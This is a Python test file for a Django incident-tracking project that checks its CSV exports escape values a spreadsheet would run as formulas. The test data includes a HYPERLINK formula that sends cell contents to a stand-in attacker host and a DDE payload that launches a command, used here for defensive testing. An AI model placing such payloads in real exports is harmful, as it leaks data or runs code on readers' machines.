"""Found by a review of the exports: a report's words that begin with = + - or @ were written
as they are to every CSV (the exports, the ACLED export, the API's incidents.csv), where a
spreadsheet runs them as formulas on the reader's machine."""

import csv
import io

import pytest
from django.test import Client

from thitsa.incidents.models import Incident
from thitsa.publish.acled_export import write_acled
from thitsa.publish.exports import write_csv
from thitsa.publish.spreadsheet import cell
from thitsa.reports.models import Source, SourceReport

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"photos")'


@pytest.mark.parametrize(
    "value, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+95 9 000", "'+95 9 000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("-3.5", "-3.5"),  # a number stays a number
        ("+12", "+12"),
        ("Jets bomb a school", "Jets bomb a school"),
        ("", ""),
        (22, 22),
        (None, None),
    ],
)
def test_a_cell_is_never_a_formula(value, written):
    assert cell(value) == written


@pytest.mark.django_db
def test_no_export_writes_a_formula():
    source = Source.objects.create(name=FORMULA, kind="media")
    incident = Incident.objects.create(
        public_id="MMR-2025-000901", date="2025-05-12", visibility="public",
        perpetrator="@SUM(1+1)", summary_en=FORMULA,
    )  # fmt: skip
    SourceReport.objects.create(
        import_key="csvi-1", source=source, title=FORMULA, incident=incident,
        killed_min=3, killed_max=3,
    )  # fmt: skip
    outputs = {}
    for name, write in (("csv", write_csv), ("acled", write_acled)):
        out = io.StringIO()
        write("incidents", out, public=True)
        outputs[f"incidents {name}"] = out.getvalue()
    out = io.StringIO()
    write_csv("reports", out, public=True)
    outputs["reports csv"] = out.getvalue()
    response = Client().get("/api/v1/incidents.csv")
    outputs["API incidents.csv"] = b"".join(response.streaming_content).decode()
    for name, text in outputs.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], name
        assert any(c == "'" + FORMULA for c in cells), name


@pytest.mark.django_db
def test_an_export_with_formula_like_values_imports_back_as_it_was(tmp_path):
    """Found by a review of this change: "'@SagaingAlerts" came back as a second source (and
    a second, independent voice in the grade), and "'- Airstrike" as another title."""
    from thitsa.reports.loading import import_file

    path = tmp_path / "reports.csv"
    path.write_text(
        "report_id,source,title,text,event_date,place\n"
        't1,@SagaingAlerts,- Airstrike on Tabayin,"=1+1 were hurt",2025-05-12,Tabayin\n',
        encoding="utf-8",
    )
    import_file(path, "thitsa", progress=False)
    out = io.StringIO()
    write_csv("reports", out)
    assert "'@SagaingAlerts" in out.getvalue()
    exported = tmp_path / "exported.csv"
    exported.write_text(out.getvalue(), encoding="utf-8")
    again = import_file(exported, "thitsa", progress=False)
    assert (again.created, again.existing, again.errors) == (0, 1, [])
    assert list(Source.objects.values_list("name", flat=True)) == ["@SagaingAlerts"]
    report = SourceReport.objects.get()
    assert (report.title, report.text) == ("- Airstrike on Tabayin", "=1+1 were hurt")
